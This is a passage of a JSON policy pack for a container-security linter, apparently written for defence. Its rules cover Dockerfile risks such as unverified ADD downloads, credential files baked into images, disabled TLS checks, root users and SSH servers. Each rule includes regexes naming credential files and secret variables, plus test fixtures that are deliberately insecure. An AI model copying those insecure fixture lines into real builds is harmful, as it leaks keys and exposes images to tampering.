{{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# .dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)(?=[^/]*service-account)[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11},{"line":5,"column":6},{"line":5,"column":24},{"line":6,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?=[A-Za-z0-9_]*(=|$))(?![A-Za-z0-9_]*(^|_)(PUBLIC|public|Public)(_|=|$))(?![A-Za-z0-9_]*_(FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type)(=|$))([A-Za-z0-9]+_)*(PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(_[A-Za-z0-9_]*)?(=|$)"},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry rules judge the reference as written. When it is a variable without a default (a Dockerfile `ARG` without a value, a workflow `${{ inputs.image }}` or `$IMAGE` in a script), whoever sets the variable chooses the image, and a reviewer of this file cannot see it. That is sometimes the point (a matrix over database versions), so the rule is informational: it marks the places the other image rules could not check.","remediation":"Give the variable a default that satisfies the image rules, so the file says what runs unless\\nsomeone deliberately overrides it:\\n\\n```dockerfile\\nARG BASE_IMAGE=python:3.12-slim@sha256:<digest>\\nFROM ${BASE_IMAGE}\\n```\\n\\n```yaml\\nservices:\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#understand-how-arg-and-from-interact"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/"}],"params":{},"tests":[{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":19}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE=python:3.12-slim\\nFROM ${BASE_IMAGE}\\nRUN echo hi\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: ${{ inputs.image }}\\n    steps:\\n      - run: docker run --rm \\"$TOOL_IMAGE\\" --version\\n","expect":[{"line":5,"column":5},{"line":7,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: docker run --rm ghcr.io/example/tool:1.2.0 --version\\n","expect":[]}],"source":"policies/docker/image-from-variable.yaml"},{"id":"image-latest-tag","pack":"docker","title":"Image uses the latest tag or no tag","severity":"medium","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"isLatest":{"const":false}}},"message":"`{{subject.ref}}` has no tag or the `latest` tag, so every pull may bring a different image and nobody can tell from this file which one ran. Name a version tag, such as `nginx:1.27`, and preferably its digest too.","rationale":"`latest` is only a default name, not a promise of the newest or of any stable version, and a reference without a tag means `latest`. Builds and deployments that use it change behaviour without a change in the repository, cannot be reproduced or rolled back, and may silently pick up a broken or compromised image. Docker\'s build best practices ask to pin base image versions, and the CIS Docker Benchmark asks that the image version in use be known and kept current.","remediation":"Write the version you have tested; add the digest to make it immutable (and let Dependabot or\\nRenovate keep both current):\\n\\n```dockerfile\\nFROM node:22.11-bookworm-slim\\n```\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.28"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx\\n  cache:\\n    image: \\"redis:latest\\"\\n  db:\\n    image: postgres:16\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":17},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  proxy:\\n    image: \\"${PROXY_IMAGE:-traefik:v3.1}\\"\\n  registry:\\n    image: localhost:5000/team/app:2.1.0\\n","expect":[]},{"file":"Dockerfile","content":"ARG BASE=python:latest\\nFROM golang AS build\\nRUN go build -o /out/app ./...\\n\\nFROM ${BASE}\\nCOPY --from=build /out/app /usr/local/bin/app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":12},{"line":5,"column":6}]},{"file":"Dockerfile","content":"ARG NODE_IMAGE\\nFROM node:22-bookworm-slim AS deps\\nRUN npm ci\\n\\nFROM deps AS test\\nRUN npm test\\n\\nFROM ${NODE_IMAGE}\\nCOPY --from=deps /app /app\\n\\nFROM scratch\\nCOPY --from=deps /app /app\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node\\n    services:\\n      redis:\\n        image: redis:latest\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://alpine\\n      - run: docker run --rm -v \\"$PWD:/src\\" hadolint/hadolint hadolint /src/Dockerfile\\n","expect":[{"line":5,"column":5,"endLine":5,"endColumn":20},{"line":8,"column":9},{"line":12,"column":9,"endLine":12,"endColumn":30},{"line":13,"column":14}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    steps:\\n      - uses: docker://alpine:3.20\\n      - run: |\\n          docker run --rm \\"${IMAGE}\\" true\\n          docker run --rm ghcr.io/example/tool:1.2.0 true\\n","expect":[]}],"source":"policies/docker/image-latest-tag.yaml"},{"id":"image-not-pinned-by-digest","pack":"docker","title":"Image is not pinned by digest","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"required":["digest"],"properties":{"digest":{"pattern":{"$param":"digest"}}}},"message":"`{{subject.ref}}` is not pinned by a full `@sha256:` digest, so the registry can serve different content under this name at any time and this file does not say which image actually runs. Append the digest, e.g. `nginx:1.27@sha256:<digest>`, and let Dependabot or Renovate keep it current.","rationale":"Tags are mutable pointers: a publisher (or anyone who takes over the publisher\'s account or registry) can push new content under an existing tag, and the next pull or build uses it without any change in the repository. A `@sha256:` digest names the exact content and is checked by Docker on pull, which makes builds reproducible and a swapped image detectable. Docker\'s build best practices and the OWASP cheat sheet\'s supply-chain guidance recommend pinning by digest; OpenSSF Scorecard checks it. The rule is low severity because it concerns nearly every image in a typical repository; raise it where the supply chain matters most.","remediation":"Keep the tag for readers and add the digest it currently resolves to\\n(`docker buildx imagetools inspect nginx:1.27` prints it):\\n\\n```dockerfile\\nFROM nginx:1.27@sha256:<64 hex digits>\\n```\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27@sha256:<64 hex digits>\\n```\\n\\nDependabot (`package-ecosystem: docker`) and Renovate update pinned digests through pull\\nrequests, so pinning does not mean falling behind on security fixes.","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#pin-base-image-versions"}],"params":{"digest":"^sha256:[0-9a-f]{64}$"},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  cache:\\n    image: redis@sha256:0123\\n  db:\\n    image: postgres:16@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n  app:\\n    image: ${APP_IMAGE:-ghcr.io/example/app:1.4.2}\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":22},{"line":5,"column":5},{"line":9,"column":5}]},{"file":"compose.yaml","content":"x-image: &image\\n  image: ghcr.io/example/app:1.4.2@sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567\\nservices:\\n  app:\\n    <<: *image\\n  worker:\\n    <<: *image\\n    command: [\\"worker\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG GO_VERSION=1.23\\nFROM golang:${GO_VERSION} AS build\\nRUN go build -o /out/app ./...\\n\\nFROM build AS test\\nRUN go test ./...\\n\\nFROM gcr.io/distroless/static-debian12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\nCOPY --from=build /out/app /app\\n","expect":[{"line":2,"column":6,"endLine":2,"endColumn":26}]},{"file":"Dockerfile","content":"ARG BASE_IMAGE\\nFROM ${BASE_IMAGE} AS base\\nFROM base\\nFROM scratch\\nCOPY --from=base /etc/ssl/certs /etc/ssl/certs\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: ${{ matrix.db }}\\n    steps:\\n      - uses: docker://ghcr.io/example/linter:2.0.0\\n      - run: |\\n          docker run --rm ghcr.io/example/tool@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef true\\n          docker run --rm alpine:3.20 true\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":21},{"line":11,"column":9},{"line":14,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n    steps:\\n      - uses: docker://alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\\n      - run: docker run --rm \\"$IMAGE\\" true\\n","expect":[]}],"source":"policies/docker/image-not-pinned-by-digest.yaml"},{"id":"image-untrusted-registry","pack":"docker","title":"Image comes from a registry that is not on the trusted list","severity":"low","subject":"image","when":{"properties":{"isVariable":{"const":false}}},"schema":{"properties":{"registry":{"enum":{"$param":"trustedRegistries"}}}},"message":"`{{subject.ref}}` is pulled from `{{value}}`, which is not one of the registries this repository trusts, so nobody has agreed to run code from it. Use an image from a trusted registry or mirror, or add the registry to the `trustedRegistries` parameter after review.","rationale":"An image runs with whatever code its registry serves. A typo-squatted host, an abandoned personal registry or an unauthenticated internal mirror can serve a tampered image under a familiar name, and scanning and signing policies usually apply only to the registries an organisation controls. The CIS Docker Benchmark (4.2) asks that containers use only trusted base images. The `trustedRegistries` parameter lists the hosts accepted; the default accepts Docker Hub, GitHub\'s registry, the registries Microsoft, Google, Kubernetes, AWS, Chainguard and Elastic serve their own images from, and a local registry. Other community registries (quay.io, \u2026) are reported until a team adds them.","remediation":"Pull the image through a registry you trust (your own, or a mirror of the public one), or add\\nthe registry to the list in `.github/containment.yml`:\\n\\n```yaml\\nparams:\\n  image-untrusted-registry:\\n    trustedRegistries: 